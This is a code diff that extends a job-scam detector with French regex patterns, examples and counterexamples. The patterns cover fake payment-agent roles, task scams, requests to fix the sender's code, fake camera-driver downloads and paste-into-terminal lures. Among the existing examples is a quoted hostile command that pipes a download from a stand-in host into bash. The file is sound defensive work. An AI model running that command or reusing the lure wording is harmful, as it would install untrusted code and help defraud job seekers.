@@ -243,6 +243,9 @@ LOW_SKILL_REMOTE_ROLE = PatternSignal(
             r"|processor|representative|officer|coordinator|clerk)s?\b",
             r"\b(?:local|regional) (?:payment )?processors?\b|\bfinancial agents?\b",
             # French
+            # as "payment representative" (probe11, R20-E)
+            r"\b(?:agents?|representant(?:e|s|es)?|gestionnaires?|responsables?) (?:locale?s? )?"
+            r"(?:de |des |pour les |de la )?(?:paiements?|transferts? d'argent|encaissements?)\b",
             r"\bassistante? (?:personnelle?|virtuelle?|privee?)\b",
             r"\b(?:secretaire|assistante?|assistant\(e\))(?: (?:administrati\w+|personnel\w*"
             r"|de direction))? (?:a distance|en teletravail|a domicile)\b",
@@ -276,6 +279,10 @@ LOW_SKILL_REMOTE_ROLE = PatternSignal(
         )
     },
     examples=(
+        E("Vous serez notre représentant local pour les paiements.",
+          lang="fr",
+          spans=("représentant local pour les paiements",),
+          note="as 'local payment representative' (R20-E)"),
         E("Vous devrez accepter des colis chez vous.", lang="fr", spans=("accepter des colis",)),
         E("You would accept parcels at home and send them on.", spans=("accept parcels",)),
         E("We need a virtual assistant to receive and reship packages from home.",
@@ -1246,7 +1253,9 @@ TASK_SCAM = PatternSignal(
             r" )?(?:set|sets|group|batch|round|series) of (?:[0-9]{1,3} )?(?:tasks|orders|reviews"
             r"|ratings|missions)\b",
             r"\b[0-9]{2} (?:tasks|orders|ratings|reviews|likes|videos) (?:a|per|each) (?:day|set)\b"
-            r"",
+            # as "30 tasks per set" (probe11, R20-E)
+            r"|\b[0-9]{2} (?:taches|commandes|avis|likes|videos) (?:par|chaque) (?:jour|serie"
+            r"|lot)\b",
             r"\b(?:each|every|per|one|a) (?:set|batch|group|round|series) of [0-9]{1,3} (?:tasks"
             r"|orders|reviews|ratings|missions|products)\b",
             # ratings or reviews the candidate is paid to leave
@@ -1343,6 +1352,10 @@ TASK_SCAM = PatternSignal(
         )
     },
     examples=(
+        E("Complétez 30 tâches par série pour débloquer vos gains.",
+          lang="fr",
+          spans=("30 tâches par série", "débloquer vos gains",),
+          note="as '30 tasks per set' (R20-E)"),
         E("Send the screenshot here to receive your reward of 10 euros.",
           spans=("screenshot here to receive your reward",)),
         E("Envoyez la capture d'écran ici pour recevoir votre récompense de 10 euros.",
@@ -1711,6 +1724,10 @@ RUN_OUR_CODE = PatternSignal(
     "roman.pt; Microsoft Feb 2026",
     patterns={"message": d.RUN_CODE_PATTERNS + _RUN_CODE_MORE},
     examples=(
+        E("Corrige le bug dans notre backend avant l'appel.",
+          lang="fr", spans=("Corrige le bug dans notre backend",)),
+        E("Could you fix this bug in our repo before Friday?",
+          spans=("fix this bug in our repo",), note="probe11, R20-E"),
         E("Please clone the repo, run npm install and npm start before our call.",
           spans=("clone the repo", "npm install", "npm start")),
         E("Take a look at our codebase and fix the bugs in our project, it has deprecated "
@@ -1855,12 +1872,20 @@ INTERVIEW_SOFTWARE_DOWNLOAD = PatternSignal(
             r" through|showing|displaying|appearing|working)(?: [a-z]+){0,2} (?:on|at|from) (?:our"
             r"|my) (?:end|side)\b",
             # French
+            # the sender's own or an interview's software, or a driver or patch; a generic
+            # "client" or "application" alone is IT onboarding (« installez le client VPN »), as
+            # in English, and Zoom is an allowlisted vendor (probe11, rule R20-E)
             r"\b(?:telecharge[rz]?|installe[rz]?|mettez a jour|mettre a jour|mets a jour)"
-            r" (?:notre |le |la |l'|votre |ton )?(?:logiciel|application|appli|outil|client|pilote"
-            r"|driver|plugin|extension|navigateur|chrome|zoom|correctif|patch|module|composant)"
-            r"(?: (?:d'entretien|de visio"
-            r"(?:conference)?|de reunion|de la camera|video|audio|camera|webcam|d'entrevue))?\b",
-            r"\bpilotes? (?:de la |de )?(?:camera|webcam|micro)\b",
+            r" (?:(?:notre |nos )(?:logiciel|application|appli|outil|client)s?(?: (?:d'entretien"
+            r"|de visio(?:conference)?|de reunion|video|audio|d'entrevue|de la camera))?|(?:le "
+            r"|la |l'|votre |ton )?(?:logiciel|application|appli|outil|client)s? (?:d'entretien"
+            r"|de visio(?:conference)?|de reunion|video|audio|d'entrevue|de la camera)|(?:notre "
+            r"|le |la |l'|votre |ton )?(?:pilote|driver|plugin|extension|navigateur|chrome"
+            r"|correctif|patch|module|composant)(?: (?:d'entretien|de visio(?:conference)?"
+            r"|de reunion|de la camera|video|audio|camera|webcam|d'entrevue))?)\b",
+            # a vendor's app updated at the sender's request, as "update Zoom via this link"
+            r"\b(?:mettez a jour|mettre a jour|mets a jour) (?:zoom|teams|skype|webex)\b",
+            r"\bpilotes? (?:de la |de |de ta |de votre |de ton )?(?:camera|webcam|micro)\b",
             r"\b(?:camera|webcam|micro) (?:non (?:detectee?|reconnue?)|introuvable|bloquee?)\b",
             r"\b(?:camera|webcam|micro|son|video) (?:ne )?(?:s'affiche|fonctionne|marche|passe"
             r"|s'allume)(?: pas| plus) (?:de notre cote|de mon cote|chez nous|chez moi|sur notre"
@@ -1880,6 +1905,8 @@ INTERVIEW_SOFTWARE_DOWNLOAD = PatternSignal(
         )
     },
     examples=(
+        E("Le pilote de ta caméra est obsolète, il faut le mettre à jour.",
+          lang="fr", spans=("pilote de ta caméra",), note="as 'your camera driver' (R20-E)"),
         E("Please download and install it from the link below before tomorrow's session.",
           spans=("install it from the link",), note="as « installez-le depuis le lien » (R20-B)"),
         E("Notre plateforme nécessite l'installation de notre logiciel de visioconférence.",
@@ -1906,6 +1933,10 @@ INTERVIEW_SOFTWARE_DOWNLOAD = PatternSignal(
           spans=("micro ne marche pas de notre côté", "télécharge le patch audio")),
     ),
     counterexamples=(
+        E("Installez le client VPN GlobalProtect avant votre premier jour.",
+          lang="fr", note="IT onboarding"),
+        E("Merci d'installer Zoom avant l'entretien.",
+          lang="fr", note="an allowlisted vendor, as in English (R20-E)"),
         E("Before day one, finish installing our VPN client.", note="IT onboarding (R19-I)"),
         E("Join via this Teams link."),
         E("Please install Microsoft Teams to join the meeting if you do not have it."),
@@ -1953,6 +1984,10 @@ PASTE_COMMAND = PatternSignal(
             r"|lance[zr]?) (?:cette|la|une|ces|les) (?:commandes?|lignes?|instructions?)"
             r" (?:dans|sur) (?:le |la |votre |ton |l')?(?:terminal|invite de commandes?|powershell"
             r"|console)\b",
+            # as "copy this into your terminal" (probe11, R20-E)
+            r"\b(?:copie[zr]?|colle[zr]?|tape[zr]?) (?:ca|ceci|cela|ce (?:code|texte|script))"
+            r"(?: ci-dessous)? (?:dans|sur) (?:le |la |votre |ton |l')?(?:terminal|invite de"
+            r" commandes?|powershell|console)\b",
             near(r"\b(?:colle[zr]?|copier-coller|copie[zr]?-colle[zr]?)\b",
                  r"\b(?:terminal|invite de commandes?|powershell|cmd)\b", r"[^.!?]{0,60}"),
             near(r"\b(?:ouvre[zr]?|lance[zr]?|demarre[zr]?) (?:le |la |l'|votre |ton )?(?:terminal"
@@ -1965,6 +2000,10 @@ PASTE_COMMAND = PatternSignal(
         )
     },
     examples=(
+        E("Copie ça dans le terminal et appuie sur Entrée pour réparer ton micro.",
+          lang="fr",
+          spans=("Copie ça dans le terminal",),
+          note="as 'copy this into your terminal' (R20-E)"),
         E("To fix the camera, run curl -s https://cam-fix.example/install.sh | bash",
           spans=("curl -s https://cam-fix.example/install.sh | bash",)),
         E("Press Win+R and paste the command I sent.", spans=("Win+R",)),
